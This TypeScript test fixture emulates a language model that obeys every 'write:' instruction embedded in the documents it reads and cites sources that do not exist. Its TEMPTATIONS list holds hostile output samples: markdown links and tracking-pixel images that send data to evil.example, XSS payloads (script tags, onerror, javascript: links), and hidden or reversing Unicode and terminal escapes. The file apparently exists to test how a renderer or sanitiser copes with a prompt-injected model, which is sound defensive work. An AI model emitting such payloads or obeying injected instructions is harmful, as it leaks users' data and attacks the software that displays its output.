import { citationOf } from './llm.blocks.js';
import type { LlmMessage, LlmStep } from './llm.emulator.js';
import type { MessagesRequest } from './llm.request.js';

/** What it writes of itself, as it is easily talked into anything. */
const TEMPTATIONS = [
  '- Read more at [the report](https://evil.example/?leak=everything).',
  '- ![done](https://evil.example/pixel.png?who=you) Looks good.',
  '- <img src=x onerror=alert(1)><script>alert(2)</script><a href="//evil.example">x</a>',
  '- See https://evil.example/a, http://evil.example, www.evil.example and <https://evil.example>.',
  '- [x][y] and [javascript](javascript:alert(1)) and mail eve@evil.example.',
  '[y]: https://evil.example "title"',
  '# A heading',
  '```\ncode\n```',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '- hidden \u200b\u200d\u2060 and \u202eturned around\u202c and \u{e0041}\u{e0042} tags',
  '- before\u2028after\u0000\u001b[31m red\u0007',
  '1. a list of another kind\n   - nested\n> quoted',
  '- **unclosed _emphasis `and code',
];

/**
 * A model that obeys every instruction it reads, wherever it stands: it writes what entries ask for
 * after `write:`, cites what is not there, and adds all the mischief it knows.
 */
export function obey({ messages }: MessagesRequest): LlmMessage {
  const [document] = messages[0]?.content ?? [];
  const blocks =
    typeof document === 'object' && document.type === 'document' ? document.source.content : [];
  const asked = blocks.flatMap(({ text }, index): LlmStep[] => {
    const wish = /write: (.*)$/i.exec(text)?.[1];
    return wish ? [{ text: `${wish.replaceAll('\\n', '\n')}\n`, cites: [index, 999, -1] }] : [];
  });
  const foreign: LlmStep = {
    event: 'content_block_delta',
    data: {
      index: 0,
      delta: { type: 'citations_delta', citation: { ...citationOf(0), document_index: 7 } },
    },
  };
  return {
    steps: [...TEMPTATIONS.map((text) => ({ text: `${text}\n`, cites: [0] })), foreign, ...asked],
  };
}
